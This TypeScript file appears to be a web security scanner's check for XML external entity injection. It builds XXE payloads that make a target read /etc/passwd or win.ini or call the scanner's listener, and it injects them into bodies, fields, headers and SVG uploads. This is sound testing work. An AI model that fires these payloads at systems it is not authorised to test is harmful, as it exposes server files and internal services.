// Checks for external XML entities: a document's own declaration makes the target read a file or request an address.

import type { Context, OperationCheck, PointCheck, Sighting } from '../check.ts'
import { replaceHeader } from '../points.ts'
import { expectCall, quietly, takesText, textValue } from '../probing.ts'
import { xmlOf } from '../seed/openapi.ts'
import type { Exchange, HttpRequest, Operation } from '../types.ts'
import { passwdIn } from './files.ts'

const files = [
  { address: 'file:///etc/passwd', wrong: 'file:///etc/pazzwd', shows: passwdIn },
  {
    address: 'file:///c:/windows/win.ini',
    wrong: 'file:///c:/windows/wim.ini',
    shows: (text: string) => /\[fonts\]/i.exec(text)?.[0] ?? null,
  },
] as const

export const xmlEntities: OperationCheck = {
  kind: 'operation',
  id: 'xml-external-entity',
  title: 'XML external entity injection (XXE)',
  cwes: [611],
  severity: 'HIGH',
  solution: 'Turn document types and external entities off in the XML parser.',
  profile: 'BALANCED',
  usesListener: true,
  accepts: (operation) =>
    mayTakeAny(operation) ||
    (operation.source !== 'graphql' &&
      ['xml', 'json', 'raw', 'form', 'multipart'].includes(operation.body?.type ?? '')),
  async *probe(operation, context) {
    for (const { document, send } of documentsOf(operation, context)) {
      for (const { address, wrong, shows } of files) {
        const exchange = await send(withEntity(document, address))
        const proof = exchange && shows(exchange.text)
        if (!exchange || !proof) continue
        const other = await send(withEntity(document, wrong))
        if (other && shows(other.text)) continue
        yield sightingOf(
          exchange,
          proof,
          `The entity ${address} of the document comes back as the contents of that file.`,
        )
        return
      }
      const complained = await complaintOf(send, document, context)
      if (complained) {
        const { exchange, proof } = complained
        yield sightingOf(
          exchange,
          proof,
          'The target reports that a file which only an entity of the document names is missing.',
        )
        return
      }
      if (!context.outOfBand) continue
      for (const make of [
        withEntity,
        (text: string, url: string) => `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "${url}"> %p;]>${text}`,
      ]) {
        await expectCall(
          operation,
          context,
          ({ url }) => send(make(document, url)),
          (exchange, url) =>
            context.report(xmlEntities, {
              ...sightingOf(exchange, url, 'An entity of the document made the target send a request to the scanner.'),
              operation,
            }),
        )
      }
    }
  },
}

/** The error of a parser that looked for the file of an entity, twice with other names; the document alone is not repeated with it. */
async function complaintOf(
  send: Sending['send'],
  document: string,
  context: Context,
): Promise<{ exchange: Exchange; proof: string } | null> {
  const ask = async () => {
    const name = context.word()
    const exchange = await send(withEntity(document, `file:///merlon/${name}`))
    const says = new RegExp(`(${MISSING}).{0,80}/merlon/${name}|/merlon/${name}.{0,80}(${MISSING})`, 'i')
    // a document that is repeated is not one that was followed
    const proof = exchange && !/SYSTEM|ENTITY/.test(exchange.text) ? says.exec(exchange.text)?.[0] : null
    return exchange && proof ? { exchange, proof } : null
  }
  return (await ask()) && (await ask())
}

const MISSING =
  'failed to load|no such file|cannot find|could not (find|load|open)|unable to (open|load|read)|FileNotFound|ENOENT|failed to open'

/** A document for operations that have none. */
const PLAIN = '<root><name>merlon</name></root>'

const sightingOf = (exchange: Exchange, proof: string, detail: string): Sighting => ({
  detail,
  proof: [proof],
  exchange,
})

type Sending = { document: string; send: (document: string) => Promise<Exchange | null> }

/** XML within a value of a query, a field or a header. */
export const xmlValues: PointCheck = {
  ...xmlEntities,
  kind: 'point',
  id: 'xml-external-entity-value',
  // fields of forms are looked at with the operation
  accepts: (point) =>
    !['form', 'multipart'].includes(point.place) &&
    takesText(point) &&
    (/^\s*</.test(textValue(point)) || /xml|svg|soap|saml/i.test(point.name)),
  async probe(point, operation, context) {
    const document = /^\s*<\w/.test(textValue(point)) ? plain(textValue(point)) : PLAIN
    const send = (value: string) => context.attempt(operation, [{ point, value }])
    for (const { address, wrong, shows } of files) {
      const exchange = await send(withEntity(document, address))
      const proof = exchange && shows(exchange.text)
      const other = proof ? await send(withEntity(document, wrong)) : null
      if (exchange && proof && !(other && shows(other.text))) {
        return sightingOf(
          exchange,
          proof,
          `The entity ${address} of the document comes back as the contents of that file.`,
        )
      }
    }
    await expectCall(
      operation,
      context,
      ({ url }) => send(withEntity(document, url)),
      (exchange, url) => {
        const detail = 'An entity of the document made the target send a request to the scanner.'
        context.report(xmlValues, { ...sightingOf(exchange, url, detail), operation, point })
      },
    )
    return null
  },
}

/** A description that says nothing of a body may come from code that reads whatever is sent. */
const mayTakeAny = ({ body, source, method }: Operation): boolean =>
  body === null && source === 'openapi' && ['POST', 'PUT', 'PATCH'].includes(method)

/** The operation's own XML; a JSON body as XML, which some frameworks read as well; texts that are XML inside of fields. */
function documentsOf(operation: Operation, context: Context): Sending[] {
  const { body } = operation
  if (!body) return [{ document: PLAIN, send: sendWhole(operation, 'application/xml', context) }]
  if (body.type === 'form' || body.type === 'multipart') {
    return body.fields.flatMap((field): Sending[] => {
      const isFile = field.fileName !== undefined
      if (!isFile && !/^\s*</.test(field.value) && !/xml|svg|soap|saml/i.test(field.name)) return []
      const point = {
        place: isFile ? ('file' as const) : body.type === 'form' ? ('form' as const) : ('multipart' as const),
        name: field.name,
        value: field.value,
      }
      const document = /^\s*<\w/.test(field.value) ? plain(field.value) : PLAIN
      const change = isFile ? { fileName: 'merlon.xml', mediaType: 'text/xml' } : {}
      const svg = { fileName: 'merlon.svg', mediaType: 'image/svg+xml' }
      const sendAs = (more: object) => (text: string) => context.attempt(operation, [{ point, value: text, ...more }])
      return isFile
        ? [
            { document, send: sendAs(change) },
            {
              document: '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>merlon</text></svg>',
              send: sendAs(svg),
            },
          ]
        : [{ document, send: sendAs(change) }]
    })
  }
  const isXml = body.type === 'xml' || (body.type === 'raw' && /^\s*</.test(body.text))
  const json = body.type === 'json' ? xmlOf('root', body.value) : null
  const document = isXml && 'text' in body ? plain(body.text) : json
  if (document === null) return []
  const mediaType = body.type === 'xml' ? body.mediaType : 'application/xml'
  return [{ document, send: sendWhole(operation, mediaType, context) }]
}

const sendWhole =
  (operation: Operation, mediaType: string, context: Context): Sending['send'] =>
  (text) =>
    quietly(context.send(withBody(context.requestOf(operation), text, mediaType), { operation }))

const plain = (text: string) => text.replace(/^\s*<\?xml[^>]{0,200}\?>/, '').replace(/^\s*<!DOCTYPE[^>]{0,500}>/i, '')

function withBody(request: HttpRequest, body: string, mediaType: string): HttpRequest {
  const headers = request.headers.map(([name, value]): [string, string] => [name, value])
  replaceHeader(headers, 'Content-Type', mediaType)
  replaceHeader(headers, 'Content-Length', String(Buffer.byteLength(body)))
  return { ...request, headers, body }
}

/** The document with the entity in place of each of its texts. */
function withEntity(document: string, address: string): string {
  const declared = `<?xml version="1.0"?><!DOCTYPE merlon [<!ENTITY merlon SYSTEM "${address}">]>`
  const filled = document.replace(/>([^<>]{0,4000})<\//g, (whole, text: string) =>
    /^\s+$/.test(text) ? whole : '>&merlon;</',
  )
  return declared + (filled !== document ? filled : '<merlon>&merlon;</merlon>')
}
